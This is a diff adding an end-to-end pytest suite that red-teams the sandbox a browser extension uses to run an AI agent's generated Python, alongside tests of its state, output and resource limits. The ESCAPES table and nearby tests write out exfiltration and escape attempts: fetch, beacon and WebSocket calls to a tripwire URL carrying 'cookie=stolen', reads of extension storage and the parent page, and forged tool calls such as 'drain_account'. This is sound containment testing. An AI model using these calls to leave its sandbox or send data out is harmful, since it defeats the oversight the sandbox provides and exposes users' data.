@@ -1,0 +1,383 @@
+"""The sandbox that runs a CodeAgent's code, red-teamed in the real extension.
+
+Each escape attempt is Python run in the sandbox (through the offscreen document's
+SandboxHost, reached over CDP), and each checks that nothing left (a local HTTP server
+records every request it gets: there must be none) and that nothing broke (the sandbox
+runs the next code). Also: state between runs and reset, tool stubs calling tools in the
+parent, BeautifulSoup offline, final_answer, the output cap, clean tracebacks, code that
+never ends, memory that never stops growing, and a CodeAgent with SandboxExecutor.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import threading
+import time
+
+import pytest
+
+pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]
+
+OFFSCREEN = "extension/offscreen/offscreen.html"
+SANDBOX_PAGE = "extension/sandbox/sandbox.html"
+PING_FROM_PANEL = """
+const done = arguments[arguments.length - 1];
+const started = performance.now();
+chrome.runtime.sendMessage({ target: "background", type: "ping" }).then(
+  (reply) => done({ ok: reply.ok, ms: performance.now() - started }),
+  (error) => done({ ok: false, error: String(error) }));
+"""
+
+
+class Tripwire:
+    """An HTTP server on 127.0.0.1 that records every request: the sandbox must never reach it."""
+
+    def __init__(self):
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def record(self):
+                hits.append(f"{self.command} {self.path}")
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+                self.wfile.write(b"caught")
+
+            do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = record
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/secret?cookie=stolen"
+
+
+class Sandbox:
+    """The offscreen document's SandboxHost, driven from the test over CDP."""
+
+    def __init__(self, browser):
+        self.browser = browser
+
+    def target(self) -> dict:
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline:
+            for target in self.browser.extension_targets():
+                if target["url"].endswith(OFFSCREEN):
+                    return target
+            time.sleep(0.1)
+        raise AssertionError("the offscreen document never appeared")
+
+    def js(self, expression: str, timeout: float = 60):
+        return self.browser.evaluate_in(self.target(), expression, timeout=timeout)
+
+    def run(self, code: str, **options) -> dict:
+        return self.js(f"globalThis.tabagent.sandbox.run({json.dumps(code)}, {json.dumps(options)})")
+
+    def python(self, code: str):
+        """Runs `code` (top-level await allowed) in the offscreen document's own Python."""
+        return self.js(f"""(async () => {{
+            const {{ pyodide }} = await globalThis.tabagent.python;
+            const scope = pyodide.globals.get("dict")();
+            try {{ return await pyodide.runPythonAsync({json.dumps(code)}, {{ globals: scope }}); }}
+            finally {{ scope.destroy(); }}
+        }})()""")
+
+
+@pytest.fixture(scope="module")
+def sandbox(browser):
+    browser.open_side_panel()
+    assert browser.driver.execute_async_script(PING_FROM_PANEL)["ok"]
+    sandbox = Sandbox(browser)
+    info = sandbox.js("globalThis.tabagent.sandbox.prepare()")
+    assert info["fromSnapshot"] is True, info
+    return sandbox
+
+
+@pytest.fixture(scope="module")
+def tripwire():
+    server = Tripwire()
+    yield server
+    server.server.shutdown()
+
+
+def assert_still_works(sandbox):
+    assert sandbox.run("print('still here')")["output"] == "still here\n"
+
+
+# --- What the sandbox does --------------------------------------------------------------
+
+
+def test_variables_and_imports_persist_between_runs_until_reset(sandbox):
+    sandbox.js("globalThis.tabagent.sandbox.reset()")
+    assert sandbox.run("import json\ncount = 41")["output"] == ""
+    assert sandbox.run("count += 1\nprint(json.dumps({'count': count}))")["output"] == '{"count": 42}\n'
+    sandbox.js("globalThis.tabagent.sandbox.reset()")
+    after = sandbox.run("json, count")
+    assert after["isError"] and "NameError: name 'json' is not defined" in after["output"]
+
+
+def test_final_answer_ends_the_run_with_its_value(sandbox):
+    result = sandbox.run("print('before')\nfinal_answer({'total': 8, 'items': ['tea', 'cake']})\nprint('after')")
+    assert result["isFinal"] and not result["isError"]
+    assert result["output"] == "before\n"
+    assert json.loads(result["finalValue"]) == {"total": 8, "items": ["tea", "cake"]}
+
+
+def test_output_is_capped_with_a_note(sandbox):
+    result = sandbox.run("print('x' * 5000)", maxOutputChars=1000)
+    assert result["output"].startswith("x" * 1000 + "\n[... 4,001 more characters cut.")
+    assert len(result["output"]) < 1200
+
+
+def test_tracebacks_show_the_models_code_and_nothing_of_the_sandbox(sandbox):
+    output = sandbox.run("def price(item):\n    return {'tea': 3}[item]\n\nprice('cake')")["output"]
+    assert output.startswith('Traceback (most recent call last):\n  File "<agent code>", line 4, in <module>\n')
+    assert '  File "<agent code>", line 2, in price\n' in output
+    assert output.endswith("KeyError: 'cake'\n")
+    assert output.count("File ") == 2, output
+
+
+def test_tool_stubs_call_the_tool_in_the_parent_and_get_its_answer(sandbox):
+    reply = sandbox.js("""(async () => {
+        const calls = [];
+        const tools = [{ name: "add", doc: "Adds two numbers.",
+                         params: [{ name: "a", required: true }, { name: "b", required: false, default: "0" }] }];
+        const onToolCall = async (name, argsJson) => {
+            calls.push([name, JSON.parse(argsJson)]);
+            const { args: [a], kwargs: { b = 0 } } = JSON.parse(argsJson);
+            if (a < 0) return JSON.stringify({ ok: false, error: { type: "ValueError", module: "builtins", base: "ValueError", args: ["a must not be negative"] } });
+            return JSON.stringify({ ok: true, value: a + b });
+        };
+        const code = "import inspect\\nprint(add(2, b=3), inspect.signature(add), add.__doc__)\\n" +
+                     "try:\\n    add(-1)\\nexcept ValueError as e:\\n    print('refused:', e)";
+        const result = await globalThis.tabagent.sandbox.run(code, { tools, onToolCall });
+        return { result, calls };
+    })()""")
+    assert reply["result"]["output"] == "5 (a, b=0) Adds two numbers.\nrefused: a must not be negative\n"
+    assert reply["calls"] == [["add", {"args": [2], "kwargs": {"b": 3}}], ["add", {"args": [-1], "kwargs": {}}]]
+
+
+def test_beautifulsoup_imports_and_parses_without_a_network(sandbox):
+    code = ("from bs4 import BeautifulSoup\nimport soupsieve\n"
+            "soup = BeautifulSoup('<ul><li class=a>tea</li><li>cake <b>5</b></li></ul>', 'html.parser')\n"
+            "print([li.get_text(' ', strip=True) for li in soup.select('li')], soup.select_one('li.a').text)")
+    assert sandbox.run(code)["output"] == "['tea', 'cake 5'] tea\n"
+
+
+def test_a_code_agent_with_the_sandbox_executor_reads_parses_keeps_state_and_answers(sandbox):
+    result = json.loads(sandbox.python('''
+import json
+import js
+from tabagent import CodeAgent, ScriptedModel, tool
+from tabagent.sandbox_executor import SandboxExecutor
+
+PAGE = "<h1>Prices</h1><table><tr><td>tea</td><td>3</td></tr><tr><td>cake</td><td>5</td></tr></table>"
+
+@tool
+def read_page(selector: str = "body") -> str:
+    """The page's HTML.
+
+    Args:
+        selector: Which part of the page.
+    """
+    return PAGE
+
+model = ScriptedModel([
+    "```python\\nfrom bs4 import BeautifulSoup\\nsoup = BeautifulSoup(read_page(), 'html.parser')\\n"
+    "prices = {tr('td')[0].text: int(tr('td')[1].text) for tr in soup('tr')}\\nprint(prices)\\n```",
+    "```python\\nfinal_answer(sum(prices.values()))\\n```",
+])
+events = []
+agent = CodeAgent(model, [read_page], executor=SandboxExecutor(js.tabagent.sandbox),
+                  listeners=[lambda event: events.append(event)])
+answer = await agent.run("What do tea and cake cost together?")
+json.dumps({"answer": answer, "events": [[e.kind, e.data] for e in events if e.kind != "token"]})
+'''))
+    assert result["answer"] == 8
+    kinds = [kind for kind, _ in result["events"]]
+    assert kinds == ["step_start", "code", "tool_call", "tool_result", "code_output",
+                     "step_start", "code", "code_output", "final_answer", "done"], kinds
+    assert result["events"][2][1]["name"] == "read_page"
+    assert result["events"][4][1] == {"output": "{'tea': 3, 'cake': 5}\n", "is_error": False}
+
+
+# --- No way out --------------------------------------------------------------------------
+
+# Each is Python run in the sandbox; none may reach the tripwire or reach past the sandbox.
+ESCAPES = {
+    "fetch": "import js\nawait js.fetch(URL)",
+    "pyodide_http": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
+    "pyodide_open_url": "from pyodide.http import open_url\nopen_url(URL)",
+    "urllib": "import urllib.request\nurllib.request.urlopen(URL, timeout=2)",
+    "xml_http_request": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', URL)\nrequest.send()",
+    "websocket": "import js\njs.WebSocket.new(URL.replace('http', 'ws'))",
+    "event_source": "import js\njs.EventSource.new(URL)",
+    "import_scripts": "import js\njs.importScripts(URL)",
+    "nested_worker": "import js\njs.Worker.new(URL)",
+    "javascript_eval": "from pyodide.code import run_js\nrun_js(f'fetch({URL!r})')",
+    "function_constructor": "import js\njs.Function.new(f'return fetch({URL!r})')()",
+    "image_element": "import js\nimage = js.document.createElement('img')\nimage.src = URL",
+    "script_element": "import js\nscript = js.document.createElement('script')\nscript.src = URL\njs.document.head.append(script)",
+    "webrtc": "import js\nconnection = js.RTCPeerConnection.new()\nconnection.createDataChannel('out')",
+    "window_open": "import js\njs.open(URL)",
+    "navigate_top": "import js\njs.top.location.href = URL",
+    "navigate_parent": "import js\njs.parent.location.href = URL",
+    "read_parent_document": "import js\nprint(js.parent.document.body.innerHTML)",
+    "chrome_runtime": "import js\njs.chrome.runtime.sendMessage({'target': 'background', 'type': 'ping'})",
+    "chrome_storage": "import js\nawait js.chrome.storage.local.get(None)",
+    "post_to_the_page": "import js\njs.postMessage({'type': 'result'})",
+    "indexed_db": "import js\njs.indexedDB.open('loot')",
+    "broadcast_channel": "import js\njs.BroadcastChannel.new('tabagent').postMessage('loot')",
+    "send_beacon": "import js\njs.navigator.sendBeacon(URL, 'loot')",
+}
+
+
+def test_the_tripwire_catches_what_does_leave(sandbox, tripwire):
+    """The control: the offscreen document may fetch, and the tripwire sees it."""
+    assert sandbox.js(f"fetch({json.dumps(tripwire.url)}).then((r) => r.text())") == "caught"
+    assert tripwire.hits == ["GET /secret?cookie=stolen"]
+    tripwire.hits.clear()
+
+
+@pytest.mark.parametrize("escape", ESCAPES)
+def test_no_way_out(sandbox, tripwire, escape):
+    code = ESCAPES[escape].replace("URL", repr(tripwire.url)) + "\nprint('GOT OUT')"
+    result = sandbox.run(code, timeoutMs=10_000)
+    assert result["isError"] and result["stopped"] is None, result
+    assert "GOT OUT" not in result["output"]
+    assert_still_works(sandbox)
+    time.sleep(0.2)  # anything that did leave has arrived by now
+    assert tripwire.hits == []
+
+
+def test_the_sandbox_has_no_origin_no_extension_apis_and_no_window(sandbox):
+    output = sandbox.run("import js\nprint(js.self.origin, [getattr(js, n, None) for n in "
+                         "('chrome', 'document', 'parent', 'fetch', 'postMessage', 'RTCPeerConnection')])")["output"]
+    assert output == "null [None, None, None, None, None, None]\n"
+
+
+def test_the_sandbox_page_itself_is_walled_in_by_its_csp_and_sandbox_flags(browser, sandbox, tripwire):
+    """The second wall, tried from the page that hosts the worker: no model code runs there,
+    but if some did, CSP and the sandbox flags would still stop it."""
+    frames = [t for t in browser.cdp.targets() if t["type"] == "iframe" and t["url"].endswith(SANDBOX_PAGE)]
+    if not frames:
+        pytest.skip("this Chromium keeps sandboxed frames in their parent's process: no target to attach to")
+    url = json.dumps(tripwire.url)
+    tried = browser.evaluate_in(frames[0], f"""(async () => {{
+        const tried = {{ origin: self.origin, runtime: typeof chrome?.runtime?.sendMessage,
+                         storage: typeof chrome?.storage, fetch: typeof fetch,
+                         rtc: typeof RTCPeerConnection, open: typeof open }};
+        new Image().src = {url};
+        const script = document.createElement("script"); script.src = {url}; document.head.append(script);
+        const link = document.createElement("link"); link.rel = "prefetch"; link.href = {url}; document.head.append(link);
+        const frame = document.createElement("iframe"); frame.src = {url}; document.body.append(frame);
+        const form = document.createElement("form"); form.action = {url}; form.method = "post";
+        document.body.append(form); form.submit();
+        try {{ top.location.href = {url}; tried.top = "navigated"; }} catch (e) {{ tried.top = e.name; }}
+        try {{ tried.parentDocument = String(parent.document); }} catch (e) {{ tried.parentDocument = e.name; }}
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        return tried;
+    }})()""")
+    assert tried == {"origin": "null", "runtime": "undefined", "storage": "undefined", "fetch": "undefined", "rtc": "undefined",
+                     "open": "undefined", "top": "SecurityError", "parentDocument": "SecurityError"}
+    assert tripwire.hits == []
+    assert_still_works(sandbox)
+
+
+def test_messages_from_other_windows_and_forged_messages_change_nothing(sandbox):
+    """The offscreen document's own window posts a forged result, and the sandboxed code digs
+    out the runtime's own channel to forge calls and results: none of it counts."""
+    code = '''
+import gc, json, sandbox_runtime
+runtime = next(o for o in gc.get_objects() if isinstance(o, sandbox_runtime.SandboxRuntime))
+me = runtime._run_id
+for forged in ({"type": "tool-call", "runId": me, "callId": 900, "name": "drain_account", "args": "{}"},
+               {"type": "tool-call", "runId": me + 7, "callId": 901, "name": "add", "args": "{}"},
+               {"type": "result", "runId": me + 1, "output": "forged", "isError": False, "isFinal": True, "finalValue": "1"}):
+    runtime._post(json.dumps(forged))
+try:
+    runtime._post(json.dumps({"type": "eval", "code": "alert(1)"}))
+except Exception as e:
+    print("the worker refused it:", type(e).__name__)
+import asyncio
+await asyncio.sleep(0.3)  # the forgeries reach the parent first
+print(add(1, 2))
+'''
+    reply = sandbox.js(f"""(async () => {{
+        const sandbox = globalThis.tabagent.sandbox;
+        const calls = [];
+        const running = sandbox.run({json.dumps(code)}, {{
+            tools: [{{ name: "add", doc: "", params: [{{ name: "a", required: true }}, {{ name: "b", required: true }}] }}],
+            onToolCall: async (name, argsJson) => {{
+                calls.push(name);
+                const {{ args: [a, b] }} = JSON.parse(argsJson);
+                return JSON.stringify({{ ok: true, value: a + b }});
+            }},
+        }});
+        window.postMessage({{ type: "result", runId: sandbox.lastRunId, output: "forged by a window",
+                              isError: false, isFinal: true, finalValue: "1" }}, "*");
+        return {{ result: await running, calls }};
+    }})()""")
+    assert reply["result"]["output"] == "the worker refused it: JsException\n3\n", reply
+    assert reply["result"]["isFinal"] is False
+    assert reply["calls"] == ["add"]
+    assert_still_works(sandbox)
+
+
+# --- Limits ------------------------------------------------------------------------------
+
+
+def test_code_that_never_ends_is_stopped_while_the_extension_stays_responsive(browser, sandbox):
+    outcome = {}
+
+    def spin():
+        started = time.perf_counter()
+        outcome["result"] = sandbox.run("while True:\n    pass", timeoutMs=3000)
+        outcome["seconds"] = time.perf_counter() - started
+
+    spinner = threading.Thread(target=spin)
+    spinner.start()
+    time.sleep(1)  # the worker is spinning now
+    pings = [browser.driver.execute_async_script(PING_FROM_PANEL) for _ in range(3)]
+    spinner.join(timeout=30)
+    assert all(p["ok"] for p in pings), pings
+    assert max(p["ms"] for p in pings) < 200, pings
+    result = outcome["result"]
+    assert result["stopped"] == "timeout" and result["isError"]
+    assert result["output"].startswith("Execution timed out after 3 s and was stopped.")
+    assert 3 <= outcome["seconds"] < 3 + 2, outcome
+    started = time.perf_counter()
+    assert sandbox.run("print('next')")["output"] == "next\n"  # on the spare: no cold start
+    assert time.perf_counter() - started < 1.5
+
+
+def test_memory_that_grows_without_end_is_stopped(sandbox):
+    result = sandbox.run("blocks = []\nwhile True:\n    blocks.append(bytearray(10**7))",
+                         memoryLimitMb=300, timeoutMs=30_000)
+    assert result["stopped"] == "memory", result
+    assert result["output"].startswith("Execution stopped: the code used more than 300 MB of memory.")
+    assert_still_works(sandbox)
+
+
+def test_one_allocation_far_past_the_limit_is_a_memory_error_and_the_state_survives(sandbox):
+    sandbox.js("globalThis.tabagent.sandbox.reset()")
+    sandbox.run("kept = 'yes'")
+    result = sandbox.run("big = bytearray(2 * 10**9)", memoryLimitMb=300)
+    assert result["stopped"] is None and result["output"].endswith("MemoryError\n"), result
+    assert sandbox.run("print(kept)", memoryLimitMb=300)["output"] == "yes\n"
+
+
+def test_stop_ends_the_code_at_once(sandbox):
+    reply = sandbox.js("""(async () => {
+        const sandbox = globalThis.tabagent.sandbox;
+        const running = sandbox.run("while True: pass");
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        const started = performance.now();
+        sandbox.stop();
+        const result = await running;
+        return { result, ms: performance.now() - started };
+    })()""")
+    assert reply["result"]["stopped"] == "stopped" and reply["ms"] < 100, reply
+    assert_still_works(sandbox)
